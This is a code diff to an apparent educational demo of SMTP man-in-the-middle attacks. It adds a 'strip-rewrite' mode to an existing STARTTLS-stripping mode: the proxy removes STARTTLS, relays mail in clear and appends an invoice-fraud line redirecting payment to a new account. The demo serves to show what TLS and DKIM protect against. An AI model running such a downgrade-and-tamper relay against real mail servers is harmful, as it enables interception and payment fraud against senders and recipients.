@@ -6,6 +6,8 @@ section 6, RFC 7672 section 1.3):
 - strip: removes STARTTLS from the MX's EHLO reply, answers a STARTTLS anyway with 454 (the
   temporary refusal of RFC 3207 section 4), and relays everything else in clear to the real
   MX, which it speaks to without TLS.
+- strip-rewrite: strips as `strip` does, and also rewrites the body of the message it
+  relays (a line added to the text): what TLS would have prevented, and what DKIM shows.
 - intercept: lets the MTA start TLS, terminates it with a certificate for the MX's name from
   its own CA, and re-encrypts towards the real MX.
 
@@ -42,7 +44,16 @@ _headers = email.parser.BytesHeaderParser(policy=email.policy.compat32)
 
 class AttackMode(StrEnum):
     STRIP = "strip"
+    STRIP_REWRITE = "strip-rewrite"
     INTERCEPT = "intercept"
+
+    @property
+    def strips(self) -> bool:
+        return self in (AttackMode.STRIP, AttackMode.STRIP_REWRITE)
+
+
+# What the rewriting attacker adds to the text of a message it relays.
+REWRITE_LINE = b"P.S. Please pay the invoice to the new account: XX00 1234 5678.\r\n"
 
 
 @dataclass
@@ -54,6 +65,7 @@ class _Reading:
     rcpt_to: list[str] = field(default_factory=list)
     data: bytes | None = None
     stripped: bool = False  # it removed a STARTTLS offer
+    rewrote: bool = False  # it changed the message's body on the way
     intercepted: bool = False  # it terminated the MTA's TLS with its own certificate
 
     def to_json(self) -> dict[str, Any]:
@@ -63,6 +75,7 @@ class _Reading:
         return {
             "stripped": self.stripped,
             "intercepted": self.intercepted,
+            "rewrote": self.rewrote,
             "read": {
                 "commands": self.commands,
                 "mail_from": self.mail_from,
@@ -223,7 +236,7 @@ class _Session:
         self, up_reader: asyncio.StreamReader, up_writer: asyncio.StreamWriter
     ) -> None:
         self.reading.commands.append("STARTTLS")
-        if self.attacker.mode is AttackMode.STRIP:
+        if self.attacker.mode.strips:
             await self._send(
                 self.writer, b"454 4.7.0 TLS not available due to temporary reason\r\n"
             )
@@ -246,7 +259,7 @@ class _Session:
         kept = [lines[0]]
         for line in lines[1:]:
             keyword = line[4:].split(b" ", 1)[0].decode("ascii", "replace").upper()
-            if keyword == "STARTTLS" and self.attacker.mode is AttackMode.STRIP:
+            if keyword == "STARTTLS" and self.attacker.mode.strips:
                 self.reading.stripped = True
                 continue
             if keyword not in _HIDDEN:
@@ -256,16 +269,23 @@ class _Session:
         return b"\r\n".join(rebuilt) + b"\r\n"
 
     async def _message(self, up_writer: asyncio.StreamWriter) -> bytes:
-        """Relay the DATA lines up to the lone dot; return the message, dot-unstuffed."""
+        """Relay the DATA lines up to the lone dot (rewritten in strip-rewrite mode); return
+        the message as read, dot-unstuffed."""
         lines = []
         while True:
             line = await self._line(self.reader)
             if not line:
                 raise asyncio.IncompleteReadError(b"", None)
-            up_writer.write(line)
             if line in (b".\r\n", b".\n"):
                 break
             lines.append(line[1:] if line.startswith(b"..") else line)  # RFC 5321 4.5.2
+        sent = lines
+        if self.attacker.mode is AttackMode.STRIP_REWRITE and b"\r\n" in lines:
+            sent = [*lines, REWRITE_LINE]  # appended to the body, after the blank line
+            self.reading.rewrote = True
+        for out in sent:
+            up_writer.write(b"." + out if out.startswith(b".") else out)
+        up_writer.write(b".\r\n")
         await up_writer.drain()
         return b"".join(lines)
 
@@ -305,6 +325,12 @@ def describe_attack(events: list[dict[str, Any]], message_id: str) -> str:
         how = T_("answered STARTTLS with its own certificate for {mx}", mx=first.get("mx"))
     else:
         how = T_("sat on the path")
+    if read and any(e.get("rewrote") for e in read):
+        return T_(
+            "The demo's attacker {how}, read the whole message and changed its text before "
+            "passing it on (its own record says so; the sending MTA could not tell).",
+            how=how,
+        )
     if read:
         return T_(
             "The demo's attacker {how} and read the whole message, envelope and body (its "
